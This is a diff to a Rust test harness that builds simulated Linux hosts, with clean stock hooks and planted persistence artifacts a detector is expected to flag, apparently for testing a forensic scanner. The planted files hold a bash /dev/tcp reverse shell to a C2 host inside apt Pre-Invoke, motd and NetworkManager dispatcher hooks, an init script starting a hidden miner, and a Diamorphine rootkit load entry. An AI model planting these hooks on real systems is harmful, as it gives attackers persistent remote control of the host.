@@ -557,6 +557,59 @@ fn clean(d: Distro, root: &Path, work: &Path) {
     lastlog[292 * 1000 + 4..292 * 1000 + 9].copy_from_slice(b"pts/0");
     lastlog[292 * 1000 + 36..292 * 1000 + 36 + ADMIN_IP.len()].copy_from_slice(ADMIN_IP.as_bytes());
     write(root, "var/log/lastlog", lastlog);
+
+    // Stock hook places (init scripts, package manager hooks and plugins, motd, network
+    // hooks, modules loaded at boot): quiet on a clean host.
+    if d.rpm() {
+        write(
+            root,
+            "etc/rc.d/init.d/functions",
+            "# -*-Shell-script-*-\nTEXTDOMAIN=initscripts\numask 022\nPATH=\"/sbin:/usr/sbin:/bin:/usr/bin\"\nexport PATH\n__pids_var_run() {\n    local base=${1##*/}\n    local pid_file=${2:-/var/run/$base.pid}\n}\n",
+        );
+        std::os::unix::fs::symlink("rc.d/init.d", root.join("etc/init.d")).unwrap();
+        let (dir, conf) = if d == Distro::Centos7 {
+            ("etc/yum/pluginconf.d", "fastestmirror.conf")
+        } else {
+            ("etc/dnf/plugins", "copr.conf")
+        };
+        write(root, &format!("{dir}/{conf}"), "[main]\nenabled=1\n");
+        write(
+            root,
+            "etc/NetworkManager/dispatcher.d/11-dhclient",
+            "#!/bin/bash\n# run dhclient.d scripts in an emulated environment\nPATH=/bin:/usr/bin:/sbin\nSAVEDIR=/var/lib/dhclient\ninterface=$1\n",
+        );
+        write(
+            root,
+            "usr/lib/modprobe.d/firewalld-sysctls.conf",
+            "install nf_conntrack /usr/sbin/modprobe --ignore-install nf_conntrack $CMDLINE_OPTS && /usr/sbin/sysctl --quiet --pattern 'net[.]netfilter[.]nf_conntrack.*' --system\n",
+        );
+    } else {
+        write(
+            root,
+            "etc/init.d/ssh",
+            "#! /bin/sh\nset -e\ntest -x /usr/sbin/sshd || exit 0\n. /lib/lsb/init-functions\ncase \"$1\" in\n  start)\n\tstart-stop-daemon --start --quiet --oknodo --chuid 0:0 --pidfile /run/sshd.pid --exec /usr/sbin/sshd -- $SSHD_OPTS\n\t;;\nesac\n",
+        );
+        std::fs::create_dir_all(root.join("etc/rc2.d")).unwrap();
+        std::os::unix::fs::symlink("../init.d/ssh", root.join("etc/rc2.d/S01ssh")).unwrap();
+        write(
+            root,
+            "etc/apt/apt.conf.d/70debconf",
+            "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n",
+        );
+        write(
+            root,
+            "etc/update-motd.d/91-release-upgrade",
+            "#!/bin/sh\nif [ -x /usr/lib/ubuntu-release-upgrader/release-upgrade-motd ]; then\n    exec /usr/lib/ubuntu-release-upgrader/release-upgrade-motd\nfi\n",
+        );
+        write(
+            root,
+            "etc/modules",
+            "# /etc/modules: kernel modules to load at boot time.\n",
+        );
+        std::fs::create_dir_all(root.join("etc/modules-load.d")).unwrap();
+        std::os::unix::fs::symlink("../modules", root.join("etc/modules-load.d/modules.conf"))
+            .unwrap();
+    }
 }
 
 /// (auth log, syslog, kernel log, cron log) of the distribution.
@@ -955,6 +1008,47 @@ fn plant(d: Distro, root: &Path) {
         }
     }
 
+    // Boot and package-manager hooks (PANIX's --initd, --rootkit, --package-manager, --motd,
+    // --network-manager): an init script starting the miner, Diamorphine loaded at boot, a
+    // reverse shell at every apt update (Debian) or a dnf/yum plugin (rpm), a motd script or a
+    // NetworkManager dispatcher script opening a shell.
+    let init = if d.rpm() {
+        "etc/rc.d/init.d"
+    } else {
+        "etc/init.d"
+    };
+    write(
+        root,
+        &format!("{init}/network-online"),
+        format!("#!/bin/sh\n### BEGIN INIT INFO\n# Provides: network-online\n### END INIT INFO\nnohup {HIDDEN}/upd >/dev/null 2>&1 &\n"),
+    );
+    write(root, "etc/modules-load.d/diamorphine.conf", "diamorphine\n");
+    let revshell = format!("nohup setsid bash -c 'bash -i >& /dev/tcp/{C2}/1337 0>&1' & disown");
+    if d.rpm() {
+        write(
+            root,
+            "etc/NetworkManager/dispatcher.d/panix-dispatcher.sh",
+            format!("#!/bin/sh -e\n{revshell}\n"),
+        );
+        let dir = if d == Distro::Centos7 {
+            "etc/yum/pluginconf.d"
+        } else {
+            "etc/dnf/plugins"
+        };
+        write(root, &format!("{dir}/pkgcon.conf"), "[main]\nenabled=1\n");
+    } else {
+        write(
+            root,
+            "etc/apt/apt.conf.d/01python-upgrades",
+            format!("APT::Update::Pre-Invoke {{\"({revshell}) &\"}};\n"),
+        );
+        write(
+            root,
+            "etc/update-motd.d/137-python-upgrades",
+            format!("#!/bin/sh\n{revshell}\n"),
+        );
+    }
+
     // Login records wiped: wtmp emptied (`> /var/log/wtmp`), lastlog cut mid-record.
     write(root, "var/log/wtmp", b"");
     let lastlog = std::fs::read(root.join("var/log/lastlog")).unwrap();
@@ -1247,6 +1341,45 @@ fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
             Critical,
         ),
     ];
+    v.push(expect(
+        "init script starting the miner",
+        "persistence.init-script",
+        "/init.d/network-online",
+        High,
+    ));
+    v.push(expect(
+        "Diamorphine in modules-load.d",
+        "persistence.module-rootkit",
+        "diamorphine",
+        Critical,
+    ));
+    if d.rpm() {
+        v.push(expect(
+            "NetworkManager dispatcher reverse shell",
+            "persistence.network-hook",
+            "panix-dispatcher.sh",
+            High,
+        ));
+        v.push(expect(
+            "dnf/yum plugin no distribution ships",
+            "persistence.package-manager-plugin",
+            "pkgcon.conf",
+            Medium,
+        ));
+    } else {
+        v.push(expect(
+            "apt Pre-Invoke reverse shell",
+            "persistence.package-manager-hook",
+            "01python-upgrades",
+            High,
+        ));
+        v.push(expect(
+            "motd reverse shell",
+            "persistence.motd-script",
+            "137-python-upgrades",
+            High,
+        ));
+    }
     if wipe_auth {
         v.push(expect(
             "auth log emptied",
